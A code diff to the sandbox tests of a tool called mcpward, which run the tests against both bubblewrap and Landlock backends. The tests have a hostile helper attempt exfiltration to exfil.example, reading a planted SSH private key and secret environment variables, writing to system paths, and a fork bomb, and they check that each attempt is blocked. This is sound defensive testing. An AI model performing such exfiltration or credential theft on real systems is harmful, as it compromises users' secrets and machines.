@@ -33,13 +33,33 @@ def bubblewrap() -> None:
         pytest.skip(f"no sandbox here: {availability.why}")
 
 
+BACKENDS = ["bubblewrap", "landlock"]
+
+
+@pytest.fixture(params=BACKENDS)
+def backend(request: pytest.FixtureRequest) -> str:
+    """The tests that hold for every confining backend run on each that works here."""
+    from mcpward.sandbox import backends
+
+    chosen = next(b for b in backends() if b.name == request.param)
+    availability = chosen.check()
+    if not availability.works:
+        pytest.skip(f"{request.param}: {availability.why}")
+    return str(request.param)
+
+
 def sandboxed(
-    tmp_path: Path, *argv: str, profile: str = "", env: dict[str, str] | None = None
+    tmp_path: Path,
+    *argv: str,
+    profile: str = "",
+    env: dict[str, str] | None = None,
+    backend: str | None = None,
 ) -> tuple[dict[str, Any], list[dict[str, Any]]]:
     config = tmp_path / "profile.toml"
     config.write_text(profile, encoding="utf-8")
     log = tmp_path / "audit.jsonl"
     command = [sys.executable, "-m", "mcpward", "sandbox", "run", "--profile", str(config), "--server", "hostile",
+               *(["--backend", backend] if backend else []),
                "--audit-log", str(log), "--", sys.executable, str(HOSTILE), *argv]  # fmt: skip
     result = subprocess.run(
         command, capture_output=True, timeout=120, env={**os.environ, **(env or {})}, check=False
@@ -50,17 +70,24 @@ def sandboxed(
     return json.loads(result.stdout.decode().strip().splitlines()[-1]), records
 
 
-def test_a_host_outside_the_allow_list_is_refused_and_recorded(tmp_path: Path) -> None:
+def test_a_host_outside_the_allow_list_is_refused_and_recorded(tmp_path: Path, backend: str) -> None:
     outcome, records = sandboxed(
-        tmp_path, "connect", "http://exfil.example/upload", profile='[network]\nallow = ["api.example.com"]\n'
+        tmp_path,
+        "connect",
+        "http://exfil.example/upload",
+        profile='[network]\nallow = ["api.example.com"]\n',
+        backend=backend,
     )
     assert not outcome["ok"] and "403" in outcome["error"]
     assert any(r.get("host") == "exfil.example" and r["decision"] == "block" for r in records)
 
 
-def test_no_direct_connection_leaves_the_sandbox(tmp_path: Path) -> None:
-    outcome, _ = sandboxed(tmp_path, "direct", "1.1.1.1", "443")
-    assert not outcome["ok"] and "unreachable" in outcome["error"].lower()
+def test_no_direct_connection_leaves_the_sandbox(tmp_path: Path, backend: str) -> None:
+    outcome, _ = sandboxed(tmp_path, "direct", "1.1.1.1", "443", backend=backend)
+    # No route out (bubblewrap: no interface) or no right to connect there (Landlock).
+    assert not outcome["ok"] and (
+        "unreachable" in outcome["error"].lower() or "denied" in outcome["error"].lower()
+    )
 
 
 def test_no_dns_inside(tmp_path: Path) -> None:
@@ -68,38 +95,47 @@ def test_no_dns_inside(tmp_path: Path) -> None:
     assert not outcome["ok"]
 
 
-def test_the_users_keys_and_the_gateways_environment_are_not_visible(tmp_path: Path) -> None:
+def test_the_users_keys_and_the_gateways_environment_are_not_visible(tmp_path: Path, backend: str) -> None:
     home = tmp_path / "home"
     (home / ".ssh").mkdir(parents=True)
     (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n", encoding="utf-8")
-    outcome, _ = sandboxed(tmp_path, "read", "~/.ssh/id_rsa", env={"HOME": str(home)})
+    outcome, _ = sandboxed(tmp_path, "read", "~/.ssh/id_rsa", env={"HOME": str(home)}, backend=backend)
     assert not outcome["ok"] and "No such file" in outcome["error"]
-    outcome, _ = sandboxed(tmp_path, "read", str(home / ".ssh" / "id_rsa"), env={"HOME": str(home)})
+    outcome, _ = sandboxed(
+        tmp_path, "read", str(home / ".ssh" / "id_rsa"), env={"HOME": str(home)}, backend=backend
+    )
     assert not outcome["ok"]
-    outcome, _ = sandboxed(tmp_path, "env", "GATEWAY_SECRET", env={"GATEWAY_SECRET": "s3cr3t-value"})
+    outcome, _ = sandboxed(
+        tmp_path, "env", "GATEWAY_SECRET", env={"GATEWAY_SECRET": "s3cr3t-value"}, backend=backend
+    )
     assert not outcome["ok"] and "GATEWAY_SECRET" not in outcome["names"]
     allowed, _ = sandboxed(
-        tmp_path, "env", "ACME_TOKEN", profile='[env]\nallow = ["ACME_TOKEN"]\n', env={"ACME_TOKEN": "given"}
+        tmp_path,
+        "env",
+        "ACME_TOKEN",
+        profile='[env]\nallow = ["ACME_TOKEN"]\n',
+        env={"ACME_TOKEN": "given"},
+        backend=backend,
     )
     assert allowed["ok"]
 
 
-def test_writes_outside_the_mounts_fail_and_inside_work(tmp_path: Path) -> None:
-    outcome, _ = sandboxed(tmp_path, "write", "/usr/local/pwned")
-    assert not outcome["ok"] and "Read-only" in outcome["error"]
+def test_writes_outside_the_mounts_fail_and_inside_work(tmp_path: Path, backend: str) -> None:
+    outcome, _ = sandboxed(tmp_path, "write", "/usr/local/pwned", backend=backend)
+    assert not outcome["ok"] and ("Read-only" in outcome["error"] or "Permission denied" in outcome["error"])
     outside = tmp_path / "outside.txt"
-    outcome, _ = sandboxed(tmp_path, "write", str(outside))
+    outcome, _ = sandboxed(tmp_path, "write", str(outside), backend=backend)
     assert not outside.exists()
     shared = tmp_path / "shared"
     shared.mkdir()
     outcome, _ = sandboxed(
-        tmp_path, "write", str(shared / "ok.txt"), profile=f'[files]\nwrite = ["{shared}"]\n'
+        tmp_path, "write", str(shared / "ok.txt"), profile=f'[files]\nwrite = ["{shared}"]\n', backend=backend
     )
     assert outcome["ok"] and (shared / "ok.txt").read_text() == "pwned"
 
 
-def test_a_fork_bomb_stops_at_the_process_limit(tmp_path: Path) -> None:
-    outcome, _ = sandboxed(tmp_path, "fork", profile="[limits]\nprocesses = 32\n")
+def test_a_fork_bomb_stops_at_the_process_limit(tmp_path: Path, backend: str) -> None:
+    outcome, _ = sandboxed(tmp_path, "fork", profile="[limits]\nprocesses = 32\n", backend=backend)
     assert not outcome["ok"] and outcome["started"] < 32
 
 
@@ -122,9 +158,13 @@ def loopback_site() -> Iterator[int]:
     server.shutdown()
 
 
-def test_an_allowed_destination_works_through_the_proxy(tmp_path: Path, loopback_site: int) -> None:
+def test_an_allowed_destination_works_through_the_proxy(
+    tmp_path: Path, backend: str, loopback_site: int
+) -> None:
     profile = f'[network]\nallow = ["api.example.com:80"]\nresolve = {{ "api.example.com:80" = "127.0.0.1:{loopback_site}" }}\n'
-    outcome, records = sandboxed(tmp_path, "connect", "http://api.example.com/v1/status", profile=profile)
+    outcome, records = sandboxed(
+        tmp_path, "connect", "http://api.example.com/v1/status", profile=profile, backend=backend
+    )
     assert outcome["ok"] and outcome["body"] == "hello from the allowed API"
     egress = [r for r in records if r.get("host") == "api.example.com"]
     assert egress and egress[0]["decision"] == "allow" and egress[0]["received"] > 0 and egress[0]["sent"] > 0
@@ -271,6 +311,9 @@ def test_no_confinement_only_when_asked_and_then_reported(
     assert result.returncode == 0 and b"UNCONFINED" in result.stderr
     records = [json.loads(line) for line in log.read_text().splitlines()]
     assert any(r["method"] == "sandbox-unconfined" and r["decision"] == "alert" for r in records)
+    from mcpward.sandbox._backends.landlock import Landlock
+
     monkeypatch.setattr(Bubblewrap, "check", lambda self: Availability(False, "refused by the kernel"))
+    monkeypatch.setattr(Landlock, "check", lambda self: Availability(False, "no Landlock"))
     with pytest.raises(SandboxError, match="bubblewrap: refused by the kernel"):
         choose_backend(None)  # never falls back to no confinement by itself
